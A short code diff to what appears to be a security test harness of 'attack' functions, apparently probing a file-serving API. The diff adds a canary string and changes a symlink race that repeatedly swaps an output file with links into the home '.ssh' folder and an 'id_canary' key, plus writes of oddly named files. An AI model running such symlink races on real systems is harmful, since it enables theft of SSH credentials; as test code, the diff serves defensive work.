@@ -12,9 +12,11 @@ from .loot import tried
 from .orders import Orders, attack
 
 FILES = ("adapter_model.safetensors", "README.md", "all_results.json", "training_loss.png", "trainer_state.json")
-MANY = 20_000
+MANY = 5_000
 DEEP = 300
 RACE_SECONDS = 3.0
+OWN = "canary-own-0123456789abcdef"
+"""The attacker's own, which the API may serve: that shows that it is asked in the right way."""
 
 
 @attack
@@ -56,6 +58,7 @@ def names(orders: Orders) -> Iterator[str]:
     for text in texts:
         with tried(f"make {text!r}"):
             Path(os.fsdecode(os.fsencode(orders.output) + b"/" + text)).write_text("x")
+    (orders.output / "own.txt").write_text(OWN)
     yield from ()
 
 
@@ -90,7 +93,7 @@ def race(orders: Orders) -> Iterator[str]:
     os.symlink(f"{orders.home}/.ssh", spare_folder)
     deadline = time.monotonic() + RACE_SECONDS
     while time.monotonic() < deadline:
-        spare_file.write_text("{}")
+        spare_file.write_text(OWN)
         os.replace(spare_file, file)
         os.symlink(f"{orders.home}/.ssh/id_canary", spare_file)
         os.replace(spare_file, file)
